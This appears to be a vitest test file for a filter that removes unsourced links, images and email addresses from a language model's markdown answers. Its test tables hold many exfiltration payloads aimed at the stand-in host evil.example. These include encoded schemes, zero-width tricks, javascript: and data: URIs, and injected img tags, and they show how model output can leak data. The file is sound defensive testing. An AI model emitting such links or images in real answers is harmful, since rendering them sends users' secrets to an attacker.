import { seeded } from '@errand/core/domain/dispatch/fixture/seeded.ts';
import { marked } from 'marked';
import { expect, test } from 'vitest';
import { givenDocument } from '../../fixture/given-document.ts';
import { addressBookOf, addressWarnings, withSourcedAddresses } from './verify-addresses.ts';

const book = addressBookOf([
	givenDocument(
		'See [the plan](https://tide.example/plan?a=1&amp;b=2) or https://weir.example/a_(b). Write to Info@tide.example or www.tide.example/help.',
		{ url: 'https://tide.example/', links: [{ text: 'More', url: 'https://more.example/x#part' }] },
	),
]);
const check = (markdown: string) => withSourcedAddresses(markdown, book);

test.each([
	'The [plan](https://tide.example/plan?a=1&b=2) is good.',
	'See https://weir.example/a_(b), and https://tide.example.',
	'[More](https://more.example/x#part "title"), info@tide.example, tide.example and www.tide.example/help!',
	'It costs 1.5 million, i.e. $5/month, e.g. in report.pdf or README.md; 5.10.2026, and/or v1.2.3.',
	'a < b and *c* | `d` — 3:2, U.S.A., z.B. Node.js and 10:30',
])('leaves %j as it is', (markdown) => {
	expect(check(markdown)).toEqual({ markdown, removed: [] });
});

test.each([
	'https://evil.example/?data=secret',
	'https://tide.example/plan?a=1&b=2&data=secret',
	'https://tide.example.evil.example/secret',
	'https://tide.example@evil.example/secret',
	'[plan](https://evil.example/?data=secret)',
	'[plan](<https://evil.example/?data=secret> "title")',
	'[plan]( https://evil.example/?data=secret\n"title")',
	'[a [b] c](//evil.example/secret)',
	'[https://tide.example](https://evil.example/secret)',
	'[plan][1]\n\n[1]: https://evil.example/?data=secret',
	'[plan][1]\n\n[1]:\n<https://evil.example/?data=secret> "x"',
	'<https://evil.example/secret>',
	'![x](https://evil.example/secret.png)',
	'![x](https://tide.example/)',
	'![x][img]\n\n[img]: https://evil.example/secret.png',
	'[![x](https://evil.example/secret.png)](https://evil.example/secret)',
	'<img src="https://evil.example/secret">',
	'<img src=//evil.example/secret',
	'<<b>img src="https://evil.example/secret">',
	'<a href=https://evil.example/secret>x</a>',
	'https&#58;//evil.example/secret',
	'[x](https&colon;//evil.example/secret)',
	'[x](https:\\/\\/evil.example/secret)',
	'ht\u200btps://evil.example/secret',
	'HTTPS://EVIL.EXAMPLE/secret',
	'[x](javascript:alert(1))',
	'[x](data:text/html,secret)',
	'www.evil.example/secret',
	'evil.example/?secret',
	'secret.evil.com',
	'**evil.com**',
	'mailto:secret@evil.example',
	'secret@evil.example',
	'[write](mailto:secret@evil.example)',
	'ftp://evil.example/secret',
	'https://tide.example|evil.example',
	'https://tide.example"https://evil.example/x',
	'x/evil.com and =evil.com',
	'[evil.com](https://tide.example)',
	'\ue0000\ue001evil.com',
])('takes what no source holds out of %j', (markdown) => {
	const { markdown: left, removed } = check(`Before. ${markdown}\n\nAfter.`);
	expect(left).toContain('Before.');
	expect(left).toContain('After.');
	expect(removed.length).toBeGreaterThan(0);
	const html = marked.parse(left, { async: false, gfm: true });
	const shown = [...html.matchAll(/(?:href|src)="([^"]*)"/g)].map(([, address]) => address);
	expect(shown.filter((address) => address !== 'https://tide.example')).toEqual([]);
	expect(html).not.toContain('<img');
	expect(left).not.toMatch(/evil\.(?:example|com)/i);
	expect(addressWarnings(removed).join()).not.toMatch(/evil\.(?:example|com)|https?:/i);
});

test.each(['|', '"', '>', '`', '\\', ')', ']', '*', "'", '&#60;', '&lt;', '<', '”', '~', '^', ':', ';'])(
	'lets nothing be hung on an address of the sources by %j',
	(mark) => {
		const html = marked.parse(check(`See https://weir.example/a_(b)${mark}secret.`).markdown, { async: false });
		expect(html).not.toMatch(/href="[^"]*secret/);
	},
);

test.each([
	'(\\<tel&#58;secret)>',
	'\\<secret:secret>',
	'\\<img src=x alt=secret>',
	'> [1]: secret\n\n[1]',
	'- [a\nb]: secret\n\n[a b]',
	'[1]:>secret\n\n[1]',
])('lets %j be no link and no image', (written) => {
	const html = marked.parse(check(written).markdown, { async: false });
	expect(html).not.toMatch(/(?:href|src)="|<img/);
});

test('lets no mixture of marks make an address', () => {
	const marks = '[ ] ( ) < > ! \\ ` * _ : / | ~~ ^ # - &#58; &colon; &lt; &amp; &#60; "t" [1] [1]: img'.split(' ');
	const parts = [...marks, ' ', '\n', '\n\n', '    ', '\ue0000\ue001', 'http', 'http://', 'https://weir.example/a_(b)'];
	const secrets = ['https://evil.example/secret', '//evil.example/secret', ' secret@evil.example', 'secret'];
	const chance = seeded(7);
	const next = (most: number) => Math.floor(chance() * most);
	for (let round = 0; round < 20_000; round++) {
		const all = [...parts, ...secrets, ...secrets];
		const written = Array.from({ length: 3 + next(12) }, () => all[next(all.length)]).join('');
		const html = marked.parse(check(written).markdown, { async: false, gfm: true });
		expect(html, written).not.toMatch(/(?:href|src)="[^"]*(?:secret|evil)|<img/);
	}
});

test('says nothing when nothing was removed', () => {
	expect(addressWarnings([])).toEqual([]);
	expect(addressWarnings(check('see evil.com').removed)).toEqual([
		'The language model wrote addresses or images that no source holds; they were removed: evil[.]com.',
	]);
});

test('is quick on hostile text', () => {
	for (const piece of [
		'[',
		'![',
		'](',
		'a.',
		'a@',
		'http://',
		'<',
		'[a](b',
		'\\[',
		'//',
		' ',
		'[x]: a\n',
		'&#',
		'a.a/',
	])
		check(piece.repeat(30_000 / piece.length));
});
